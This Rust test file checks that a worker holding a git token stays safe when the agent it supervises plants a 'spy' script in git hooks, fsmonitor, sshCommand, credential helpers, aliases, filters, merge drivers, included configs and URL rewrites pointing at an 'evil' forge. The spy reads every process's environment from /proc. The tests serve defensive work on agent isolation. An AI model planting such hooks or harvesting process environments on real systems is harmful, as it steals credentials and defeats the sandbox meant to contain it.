//! For people who give a worker a git token: an agent may leave programs in its clone, its HOME or its PATH, but
//! the worker runs none of them while a process has the token, and still pushes the work.
//!
//! In every test the agent installs a spy in a place where a careless worker's git would run it. The spy is a
//! program that writes its environment, and the environment of every other process except the workers, to a
//! file. (Nothing protects a worker from an agent that is root, as it is in some test environments.)

mod contents;

use std::fs;
use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

use crate::support::origin::write_program;
use crate::support::{Forge, Origin, Receiver, duration_setting, path, quoted, with_enough_time};

/// The branch to which workers for task 8 push by default.
const BRANCH: &str = "descartes/proj-456/8";

/// The idle timeout of git for tests that do not make git wait: git may be slow on a busy machine.
const LONG_GIT_IDLE_TIMEOUT: &str = "10m";

/// A project whose repository requires a token, and a spy.
struct Setup {
    origin: Origin,
    forge: Forge,
    receiver: Receiver,
    token: String,
}

impl Setup {
    fn new() -> Self {
        let origin = Origin::with_files(&[("README", "A house.\n"), ("src/main", "roof\n")]);
        // Each test has a different token, because spies of other tests run at the same time.
        let token = format!("tok_{}", origin.path("").display());
        let token = token.replace(|c: char| !c.is_ascii_alphanumeric(), "x");
        let spy = origin.path("spy");
        let script = format!(
            "{{ tr '\\0' '\\n' < /proc/self/environ; echo \"ran as $0 $*\"
            for process in /proc/[0-9]*; do
                case $(readlink \"$process/exe\") in
                    *descartes-worker) ;;
                    *) tr '\\0' '\\n' < $process/environ ;;
                esac
            done; }} >> {} 2>/dev/null; cat; exit 0",
            quoted(origin.path("spy_output"))
        );
        write_program(&spy, &script);
        Self {
            forge: Forge::start(&origin.path(""), Some(&token)),
            receiver: Receiver::start(),
            token,
            origin,
        }
    }

    /// The path of the spy.
    fn spy(&self) -> PathBuf {
        self.origin.path("spy")
    }

    /// What the spy has written; empty if it never ran.
    fn spy_output(&self) -> String {
        fs::read_to_string(self.origin.path("spy_output")).unwrap_or_default()
    }

    /// Runs an agent that does its work and then the attack, and asserts that the spy did not see the
    /// token; returns the terminal event. In the attack, `$SPY` is the path of the spy, `$RUN_SPY` is a shell
    /// command that runs it, and `$OUTSIDE` is a directory outside the project that the agent can write.
    #[track_caller]
    fn attack(&self, attack: &str) -> Value {
        self.attack_with_git_idle_timeout(LONG_GIT_IDLE_TIMEOUT, attack)
    }

    /// Like [`Self::attack`], with another value of `DESCARTES_GIT_IDLE_TIMEOUT`.
    #[track_caller]
    fn attack_with_git_idle_timeout(&self, git_idle_timeout: &str, attack: &str) -> Value {
        let path = format!("{}:{}", self.origin.path("bin").display(), path().display());
        let agent = format!(
            "SPY={}; RUN_SPY={}; OUTSIDE={}; echo done > DONE\n{attack}\nrm -f \"$OUTSIDE/spy_output\"; true",
            quoted(self.spy()),
            quoted(quoted(self.spy())),
            quoted(self.origin.path("tmp").parent().expect("a parent"))
        );
        let worker = self.origin.worker(&self.receiver);
        let worker = worker
            .env("PATH", path)
            .env("DESCARTES_REPO", self.forge.url());
        let ended = worker
            .env("DESCARTES_GIT_TOKEN", &self.token)
            .env("DESCARTES_GIT_IDLE_TIMEOUT", git_idle_timeout)
            .agent(&agent)
            .run();
        let routes = self.receiver.routes();
        assert_eq!(routes.len(), 2, "{ended:#?}");
        let spy_output = self.spy_output();
        assert!(
            !spy_output.contains(&self.token),
            "the spy saw the token:\n{spy_output}"
        );
        self.receiver.only_event(&routes[1])
    }

    /// Like [`Self::attack`]; also asserts that the work was pushed and that the spy never ran.
    #[track_caller]
    fn assert_harmless(&self, attack: &str) -> Value {
        let event = self.attack(attack);
        assert_eq!(event["status"], "completed", "{event}");
        self.assert_work_is_pushed_and_spy_did_not_run();
        event["result"]["work"].clone()
    }

    #[track_caller]
    fn assert_work_is_pushed_and_spy_did_not_run(&self) {
        assert_eq!(self.spy_output(), "", "the spy ran");
        assert_eq!(self.origin.show(BRANCH, "DONE"), "done");
    }
}

/// Like [`Setup::assert_harmless`], for an attack that makes git wait for a pipe until its idle timeout. The
/// timeout is short. On a busy machine, another git process may be silent for as long; then the test runs again with a longer
/// timeout.
#[track_caller]
fn assert_harmless_although_git_waits(attack: &str) {
    with_enough_time(Duration::from_secs(5), |limit| {
        let setup = Setup::new();
        let event = setup.attack_with_git_idle_timeout(&duration_setting(limit), attack);
        if event["status"] != "completed" {
            return Err(format!("the work was not pushed: {event:#}"));
        }
        setup.assert_work_is_pushed_and_spy_did_not_run();
        Ok(())
    });
}

#[test]
fn the_spy_writes_down_a_token_in_its_environment() {
    let setup = Setup::new();
    let status = Command::new(setup.spy())
        .env("TOKEN", &setup.token)
        .stdin(std::process::Stdio::null())
        .status();
    assert!(status.unwrap().success());
    assert!(
        setup
            .spy_output()
            .contains(&format!("TOKEN={}", setup.token))
    );
}

#[test]
fn the_agents_own_processes_do_not_see_the_token() {
    let setup = Setup::new();
    let event = setup.attack(r#""$SPY" < /dev/null; mv "$OUTSIDE/spy_output" "$OUTSIDE/kept""#);
    assert_eq!(event["status"], "completed");
    let seen = fs::read_to_string(setup.origin.path("kept")).unwrap();
    assert!(
        seen.contains("ran as") && !seen.contains(&setup.token),
        "{seen}"
    );
}

#[test]
fn hooks_do_not_run() {
    Setup::new().assert_harmless(
        r#"mkdir -p .git/hooks; for hook in pre-commit commit-msg post-commit pre-push post-checkout post-index-change
         do cp "$SPY" .git/hooks/$hook; done
         for hook in reference-transaction pre-auto-gc fsmonitor-watchman; do cp "$SPY" .git/hooks/$hook; done
         git config core.hooksPath "$PWD/.git/hooks"; git config --global core.hooksPath "$PWD/.git/hooks""#,
    );
}

#[test]
fn a_file_system_monitor_does_not_run() {
    Setup::new().assert_harmless(
        r#"git config core.fsmonitor "$RUN_SPY"; git config --global core.fsmonitor "$RUN_SPY""#,
    );
}

#[test]
fn an_ssh_command_does_not_run() {
    let setup = Setup::new();
    let attack = format!(
        "for scope in --local --global; do git config $scope core.sshCommand \"$RUN_SPY\"
         git config $scope ssh.variant simple; git config $scope url.ssh://evil/.insteadOf {}/; done",
        setup.forge.base_url()
    );
    setup.assert_harmless(&attack);
}

#[test]
fn a_credential_helper_is_not_asked() {
    let setup = Setup::new();
    let attack = format!(
        "for scope in --local --global; do git config $scope credential.helper \"!$RUN_SPY\"
         git config $scope credential.{}.helper \"!$RUN_SPY\"; done
         printf 'machine 127.0.0.1 login agent password guessed\\n' > \"$HOME/.netrc\"",
        setup.forge.base_url()
    );
    setup.assert_harmless(&attack);
    let was_sent = setup.forge.requests().iter().any(|request| {
        // The base64 of agent:guessed.
        request.authorization.as_deref() == Some("Basic YWdlbnQ6Z3Vlc3NlZA==")
    });
    assert!(!was_sent);
}

#[test]
fn rewritten_urls_and_proxies_are_ignored() {
    let setup = Setup::new();
    let evil = Forge::start(&setup.origin.path(""), None);
    let attack = format!(
        "for scope in --local --global; do git config $scope url.{evil}/.insteadOf {base}/
         git config $scope url.{evil}/.pushInsteadOf {base}/; git config $scope http.proxy {evil}
         git config $scope remote.origin.url {evil}/project.git; done",
        evil = evil.base_url(),
        base = setup.forge.base_url()
    );
    setup.assert_harmless(&attack);
    assert_eq!(evil.requests(), []);
}

#[test]
fn a_program_that_asks_for_passwords_does_not_run() {
    Setup::new().assert_harmless(
        r#"for scope in --local --global; do git config $scope core.askPass "$SPY"; done"#,
    );
}

#[test]
fn configured_diff_programs_do_not_run() {
    Setup::new().assert_harmless(
        r#"for scope in --local --global; do git config $scope diff.external "$RUN_SPY"; git config $scope diff.spy.textconv "$RUN_SPY"
         git config $scope diff.spy.command "$RUN_SPY"; git config $scope core.pager "$RUN_SPY"; git config $scope interactive.diffFilter "$RUN_SPY"; done
         echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README"#,
    );
}

#[test]
fn aliases_do_not_run() {
    Setup::new().assert_harmless(
        "for scope in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
         cat-file merge-base read-tree; do git config $scope alias.$command \"!$RUN_SPY\"; done; done",
    );
}

#[test]
fn included_configuration_is_ignored() {
    assert_harmless_although_git_waits(
        r#"set_evil() { git config --file "$OUTSIDE/evil" "$@"; }
         set_evil core.fsmonitor "$RUN_SPY"; set_evil core.sshCommand "$RUN_SPY"; set_evil core.askPass "$SPY"
         set_evil credential.helper "!$RUN_SPY"; git config include.path "$OUTSIDE/evil"; git config --global include.path "$OUTSIDE/evil"
         git config includeIf.gitdir:/.path "$OUTSIDE/evil"
         mkfifo "$OUTSIDE/fifo"; git config --add include.path "$OUTSIDE/fifo""#,
    );
}

#[test]
fn the_work_is_pushed_although_a_filter_waits_and_prints_forever() {
    assert_harmless_although_git_waits(
        r#"printf 'while :; do echo waiting for a lock >&2; sleep 0.3; done\n' > .git/slow
         git config filter.slow.clean "sh .git/slow"; echo '*.slow filter=slow' > .git/info/attributes; echo slow > file.slow"#,
    );
}

#[test]
fn filters_that_the_agent_configured_run_without_the_token() {
    let setup = Setup::new();
    let filter = quoted(quoted(setup.origin.path("clean")));
    let event = setup.attack(&format!(
        r#"cat > "$OUTSIDE/clean" <<'END'
#!/bin/sh
outside=${{0%/*}}
echo ran >> "$outside/ran"
tr '\0' '\n' < /proc/self/environ >> "$outside/spy_output"
tr a-z A-Z
END
         chmod +x "$OUTSIDE/clean"; for scope in --local --global; do git config $scope filter.spy.clean {filter}; done
         echo 'new filter=spy' > .gitattributes; echo new > new; echo ignored >> .git/info/exclude; touch ignored"#
    ));
    assert_eq!(event["status"], "completed", "{event}");
    assert!(setup.origin.path("ran").exists(), "the filter did not run");
    assert_eq!(setup.origin.show(BRANCH, "new"), "NEW");
    let files = setup.origin.git(&["ls-tree", "-r", "--name-only", BRANCH]);
    assert!(!files.contains("ignored"), "{files}");
}

#[test]
fn a_merge_driver_in_the_agents_attributes_does_not_run() {
    let setup = Setup::new();
    setup.assert_harmless(
        r#"mkdir -p .git/info "$HOME/.config/git"; for file in .gitattributes .git/info/attributes "$HOME/.config/git/attributes"; do
         echo '* merge=spy text eol=crlf' > "$file"; done
         for scope in --local --global; do git config $scope merge.spy.driver "$RUN_SPY"; done; touch README; echo new > new"#,
    );
    assert_eq!(setup.origin.show(BRANCH, "new"), "new");
}
